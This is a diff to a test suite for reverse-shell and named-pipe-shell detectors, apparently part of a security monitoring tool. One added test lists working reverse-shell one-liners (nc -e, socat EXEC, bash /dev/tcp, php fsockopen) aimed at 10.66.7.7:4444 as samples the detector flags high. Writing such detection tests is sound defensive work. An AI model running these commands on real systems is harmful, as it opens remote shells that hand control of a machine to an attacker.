@@ -19,6 +19,7 @@ from tests.detectors.making import (
     connected,
     enrolled,
     executed,
+    fifo_made,
     header,
     opened,
     told,
@@ -45,6 +46,46 @@ def test_a_program_on_a_terminal_or_pipe_is_in_order() -> None:
     assert told(ReverseShell(), executed("/bin/sh"), executed("curl", "-s", "http://127.0.0.1:8099/")) == []
 
 
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ("nc", "-w", "3", "10.66.7.7", "4444", "-e", "/bin/sh"),
+        ("busybox", "nc", "10.66.7.7", "4444", "-e", "sh"),
+        ("/usr/bin/ncat", "-nve", "/bin/sh", "10.66.7.7", "4444"),
+        ("ncat", "10.66.7.7", "4444", "--sh-exec", "sh"),
+        ("socat", "TCP:10.66.7.7:4444", "EXEC:/bin/sh,pty"),
+        ("bash", "-c", "bash -i >& /dev/tcp/10.66.7.7/4444 0>&1"),
+        ("bash", "-c", "sh 0</dev/tcp/10.66.7.7/4444"),
+        ("python3", "-c", "import socket,os;s=socket.socket();s.connect(a);os.dup2(s.fileno(),0)"),
+        ("php", "-r", "$s=fsockopen('10.66.7.7',4444);exec('sh <&3 >&3');"),
+    ],
+)
+def test_a_command_that_would_be_a_reverse_shell_is_high(argv: tuple[str, ...]) -> None:
+    """Where there is no network the connection never stands."""
+    assert told(ReverseShell(), executed(*argv, path="/bin/x"), sandbox=STRICT) == [
+        ("reverse-shell-command", "high")
+    ]
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ("nc", "-z", "127.0.0.1", "8099"),
+        ("nc", "-w", "3", "example.org", "80"),
+        ("bash", "-c", "echo > /dev/tcp/127.0.0.1/5432"),
+        ("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/5432"),
+        ("socat", "-", "TCP:127.0.0.1:80"),
+        ("sed", "-e", "s/a/b/", "x"),
+        ("grep", "-e", "nc", "x"),
+        ("python3", "-c", "import socket;socket.create_connection(('127.0.0.1',80))"),
+        ("python3", "-m", "http.server", "8099"),
+        (),
+    ],
+)
+def test_commands_that_only_connect_are_in_order(argv: tuple[str, ...]) -> None:
+    assert told(ReverseShell(), executed(*argv, path="/bin/x")) == []
+
+
 def _fifo(path: str = "/tmp/f", *, write: bool = True, **facts: int) -> Event:
     return opened(path, file=File(path=path, kind=FileKind.FIFO, inode=3), write=write, **facts)
 
@@ -62,9 +103,18 @@ def test_the_other_way_round_is_high_too() -> None:
     assert told(FifoShell(), *events) == [("fifo-shell", "high")]
 
 
+@pytest.mark.parametrize("maker", [{"pid": 11, "ppid": 1}, {"pid": 1, "ppid": 0}])
+def test_a_named_pipe_that_was_only_made_is_medium(maker: dict[str, int]) -> None:
+    events = (fifo_made("/tmp/f", **maker), connected("10.66.7.7", 4444, pid=12, ppid=1, at_s=0.1))
+    assert told(FifoShell(), *events) == [("fifo-shell", "medium")]
+    assert told(FifoShell(), events[0], _fifo(pid=12, ppid=1), events[1]) == [("fifo-shell", "high")]
+
+
 @pytest.mark.parametrize(
     "events",
     [
+        (fifo_made("/tmp/f", pid=11, ppid=1), connected("10.66.7.7", 443, pid=30, ppid=3)),
+        (fifo_made("/tmp/f", pid=11, ppid=1), connected("10.66.7.7", 443, pid=1, ppid=0)),
         (_fifo(pid=12, ppid=1), connected("127.0.0.1", 8099, pid=12, ppid=1)),
         (_fifo(pid=12, ppid=1), connected("10.66.7.7", 4444, pid=20, ppid=2)),
         (_fifo(pid=12, ppid=1), connected("10.66.7.7", 4444, pid=12, ppid=1, at_s=60)),
